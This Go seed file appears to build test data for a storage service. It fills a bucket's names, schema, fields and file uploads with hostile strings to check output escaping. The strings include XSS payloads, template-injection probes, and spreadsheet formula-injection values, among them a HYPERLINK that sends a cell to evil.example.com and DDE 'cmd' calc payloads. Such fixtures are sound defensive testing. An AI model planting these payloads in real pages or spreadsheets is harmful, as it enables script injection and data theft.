package seed

import (
	"context"
	"strings"

	"github.com/bucketlite/bucketlite"
)

// Hostile is a name that runs a script where it is not escaped.
const Hostile = `"><script>alert('name')</script>`

// hostileTexts are contents that harm a page, or a table that is made of them.
var hostileTexts = map[string]string{
	"script":   `<script>alert('content')</script>`,
	"image":    `"><img src=x onerror=alert('content')>`,
	"handler":  `' onmouseover=alert(1) x='`,
	"closing":  `</textarea></title></style></script><h1>out</h1>`,
	"template": `{{.Root}} ${7*7} <%= 7*7 %>`,
	"link":     `javascript:alert(1)`,
	"markup":   `<b>bold</b>&amp;&lt;i&gt;<!-- comment`,
	"formula":  `=HYPERLINK("http://evil.example.com/?"&A1,"open")`,
	"plus":     `+cmd|' /C calc'!A0`,
	"minus":    `-2+3`,
	"at":       `@SUM(1+1)*cmd|' /C calc'!A0`,
	"tab":      "\t=1+1",
	"rtl":      "abc \u202egnp.exe\u202c עברית العربية",
	"joined":   strings.Repeat("e\u0301\u0302\u0303", 60),
	"long":     strings.Repeat("longer ", 1463),
	"unbroken": strings.Repeat("W", 10_240),
	"lines":    "one\r\ntwo\n\nthree\ttab",
	"spaces":   "  leading and trailing  ",
	"emoji":    "👩‍👩‍👧‍👦 🏳️‍🌈 ﷽",
	"blank":    "",
}

// hostile is a bucket of contents that harm a careless page.
func (s *Seed) hostile(ctx context.Context, ns *bucketlite.Namespace) error {
	b, err := s.bucket(ctx, ns, bucketlite.BucketConfig{
		Name: Hostile, Description: hostileTexts["image"] + " " + hostileTexts["unbroken"],
		Schema: bucketlite.Schema{Properties: map[string]bucketlite.Field{
			"text":    {Type: bucketlite.String, Description: hostileTexts["script"], Examples: []any{hostileTexts["closing"]}},
			Hostile:   {Type: bucketlite.String, Enum: []any{hostileTexts["handler"], hostileTexts["rtl"]}},
			"=1+1":    {Type: bucketlite.Number},
			"number":  {Type: bucketlite.Number},
			"file":    {Type: bucketlite.File},
			"picture": {Type: bucketlite.Image},
		}},
		Metadata: map[string]any{Hostile: hostileTexts["closing"]},
	})
	if err != nil {
		return err
	}
	s.IDs[Main+"/hostile"] = b.ID()
	for name, text := range hostileTexts {
		in := bucketlite.ObjectInput{ID: "hostile-" + name, KeyPrefix: "/" + text, Fields: map[string]any{
			"text": text, Hostile: hostileTexts["handler"], "=1+1": 2, "number": 12345678901234, "undeclared " + hostileTexts["image"]: map[string]any{text: []any{text, nil}},
		}}
		if filename := strings.NewReplacer("/", "_", "\\", "_", "\t", "_", "\r", "_", "\n", "_").Replace(text); filename != "" {
			runes := []rune(strings.TrimSpace(filename))
			in.Blobs = []bucketlite.BlobInput{{Property: "file", Reader: strings.NewReader("<script>alert('file')</script>" + text), Filename: string(runes[:min(len(runes), 200)]), Metadata: map[string]any{text: text}}}
		}
		in.KeyPrefix = "/" + string([]rune(text)[:min(len([]rune(text)), 200)])
		if err := s.put(ctx, b, in); err != nil {
			return err
		}
		s.IDs[Main+"/hostile/"+name] = in.ID
	}
	return nil
}
